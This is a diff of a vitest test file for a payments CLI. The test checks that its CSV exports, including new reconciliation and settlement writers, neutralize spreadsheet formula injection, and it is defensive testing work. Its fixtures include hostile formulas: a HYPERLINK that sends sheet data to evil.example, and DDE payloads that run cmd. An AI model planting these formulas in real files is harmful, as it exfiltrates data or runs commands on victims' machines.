@@ -2,6 +2,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { PAYOPS_SETTLEMENT_HEADER_LINE } from '../../src/reconcile/formats/payops.js';
 import { csvNumeric, csvRow, csvText } from '../../src/reports/csv.js';
 import { payops, tempDir } from '../helpers/cli.js';
 
@@ -10,12 +11,20 @@ import { payops, tempDir } from '../helpers/cli.js';
  * cell starting with =, +, - or @ (or a tab or a carriage return) would be run by Excel, Sheets
  * or LibreOffice, e.g. =HYPERLINK("http://evil.example/?"&A1) sending the sheet away. The data is
  * kept exactly; only the CSV cell gets a leading apostrophe. Every CSV writer is listed here: a
- * new one joins CSV_WRITERS.
+ * new one joins CSV_WRITERS (`file`: it writes a file rather than stdout; `showsText`: the
+ * formulas planted below reach its cells, behind the apostrophe).
+ *
+ * The settlement file `psp settle` writes is read back by payops as it is, so its cells cannot be
+ * prefixed: its writer refuses a text that starts like a formula, and its cells are payops' own
+ * references and order ids, which never do.
  */
-const CSV_WRITERS: readonly { name: string; args: readonly string[] }[] = [
-  { name: 'ledger export --format csv', args: ['ledger', 'export', '--format', 'csv'] },
-  { name: 'ledger balance --csv', args: ['ledger', 'balance', '--csv'] },
-  { name: 'report sellers --csv', args: ['report', 'sellers', '--csv'] },
+const TODAY = new Date().toISOString().slice(0, 10);
+const CSV_WRITERS: readonly { name: string; args: readonly string[]; file?: string; showsText: boolean }[] = [
+  { name: 'ledger export --format csv', args: ['ledger', 'export', '--format', 'csv'], showsText: true },
+  { name: 'ledger balance --csv', args: ['ledger', 'balance', '--csv'], showsText: false },
+  { name: 'report sellers --csv', args: ['report', 'sellers', '--csv'], showsText: true },
+  { name: 'reconcile report --csv', args: ['reconcile', 'report', '--csv'], showsText: true },
+  { name: 'psp settle --out', args: ['psp', 'settle', '--date', TODAY, '--out', '{dir}/day.csv', '--inject-discrepancies', '6'], file: 'day.csv', showsText: false },
 ];
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
@@ -72,11 +81,22 @@ describe('CSV cells are neutralized against formula injection', () => {
       );
       fs.writeFileSync(path.join(dir, 'payouts.ndjson'), `${payOuts.join('\n')}\n`);
       run(['payin', 'run', path.join(dir, 'payouts.ndjson')]);
+      // A settlement file whose references and batches are the formulas; each item decided with one as its note.
+      const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+      const rows = FORMULAS.map((formula, index) => `capture,${quoted(`${formula} ch`)},ord_unknown_${index},${quoted(formula)},USD,5.00,0.10,4.90,2026-11-23T10:00:00Z,`);
+      fs.writeFileSync(path.join(dir, 'settlement.csv'), `${PAYOPS_SETTLEMENT_HEADER_LINE}\n${rows.join('\n')}\n`);
+      expect(payops(['reconcile', 'run', path.join(dir, 'settlement.csv'), '--non-interactive', '--db', db]).code).toBe(4);
+      const review = payops(['reconcile', 'review', '--json', '--db', db]);
+      expect(review.code).toBe(4);
+      const items = JSON.parse(review.stdout) as { itemId: string }[];
+      expect(items).toHaveLength(FORMULAS.length);
+      items.forEach((item, index) => run(['reconcile', 'decide', item.itemId, 'note', '--note', FORMULAS[index] as string]));
     });
     afterAll(() => cleanup());
 
     it.each(CSV_WRITERS.map((writer) => [writer.name, writer] as const))('%s: no cell a spreadsheet would run, every one kept', (_name, writer) => {
-      const text = run(writer.args);
+      const stdout = run(writer.args.map((arg) => arg.replace('{dir}', dir)));
+      const text = writer.file === undefined ? stdout : fs.readFileSync(path.join(dir, writer.file), 'utf8');
       const rows = parse(text, { relax_column_count: false }) as string[][];
       expect(rows.length).toBeGreaterThan(1);
       for (const cell of rows.flat()) {
@@ -85,7 +105,7 @@ describe('CSV cells are neutralized against formula injection', () => {
       // The formulas themselves are there, as text behind the apostrophe (where this writer shows them).
       const cells = new Set(rows.flat());
       const shown = FORMULAS.filter((formula) => cells.has(`'${formula}`));
-      if (writer.name !== 'ledger balance --csv') expect(shown).toEqual(FORMULAS);
+      if (writer.showsText) expect(shown).toEqual(FORMULAS);
     });
   });
 });
